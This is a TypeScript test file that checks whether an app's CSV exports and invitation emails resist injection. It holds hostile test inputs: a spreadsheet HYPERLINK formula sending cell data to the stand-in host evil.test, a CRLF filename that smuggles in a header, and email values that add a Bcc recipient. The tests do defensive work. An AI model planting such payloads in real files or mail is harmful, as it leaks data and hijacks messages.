import { eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { beforeEach, describe, expect, it } from 'vitest';
import { members, organizations, teams } from '../../src/db/schema/organizations.ts';
import { invitationLetter } from '../../src/views/mail/invitation.ts';
import { callerWith } from '../api/caller.ts';
import { inProduction } from '../support/callers.ts';
import { type World, world } from '../support/world.ts';

const FORMULA = '=HYPERLINK("http://evil.test/"&A1,"x")';
const LINES = 'North\r\nBcc: eve@evil.test';

let w: World;

beforeEach(async () => {
  w = await world({ now: Date.now() });
});

const fetched = async (path: string) => {
  const answer = await inProduction(path, { headers: { Cookie: `__Host-${await w.cookie(w.ada)}` } });
  expect(answer.status).toBe(200);
  return answer;
};

describe('a file for spreadsheets', () => {
  it.each(['/o/northwind/admin/users.csv', '/o/northwind/admin/audit.csv', '/o/northwind/admin/teams/export'])(
    '%s runs nothing that people wrote',
    async (path) => {
      for (const [i, start] of ['=', '+', '-', '@'].entries())
        await w.db.insert(teams).values({
          id: `tm_0000000000000000000000000${i}` as never,
          orgId: w.org.id,
          name: `${start}${FORMULA}`,
          createdAt: w.now,
        });
      await w.db.update(members).set({ name: FORMULA }).where(eq(members.id, w.ada.id));
      await w.okr({ title: FORMULA, kind: 'objective' }, w.ada);
      const text = await (await fetched(path)).text();
      const cells = Papa.parse<string[]>(text.replace('\u{feff}', '')).data.flat();
      expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    },
  );

  it.each(['/o/northwind/admin/users.csv', '/o/northwind/admin/audit.csv', '/o/northwind/admin/teams/export'])(
    '%s is called by nothing that people wrote',
    async (path) => {
      await w.db.update(organizations).set({ name: `"; filename="x.exe"\r\nX-Evil: 1` });
      const { headers } = await fetched(path);
      expect(headers.get('Content-Disposition')).toMatch(/^attachment; filename="[a-z]+-northwind\.csv"$/);
      expect(headers.get('X-Evil')).toBeNull();
    },
  );
});

describe('a letter', () => {
  it('has one line of subject, whatever an organization or a person is called', () => {
    const reader = { locale: 'en-GB', timeZone: 'Europe/London' };
    const asked = { organization: LINES, inviter: LINES, expiresAt: w.now, link: 'https://cairn.test/join?token=x' };
    const { subject } = invitationLetter(reader as Parameters<typeof invitationLetter>[0], asked);
    expect(subject).toContain('North');
    expect(subject).not.toMatch(/[\r\n]/);
  });

  it.each([
    'noor@northwind.test\r\nBcc: eve@evil.test',
    'noor@northwind.test, eve@evil.test',
    'Noor <noor@northwind.test>',
  ])('goes to no address that is more than one: %j', async (email) => {
    const call = callerWith(await w.token(w.ada));
    expect((await call('POST', '/invitations', { name: 'Noor', email })).status).toBe(422);
    expect((await call('POST', '/members', { name: 'Noor', email, role: 'member' })).status).toBe(422);
  });
});
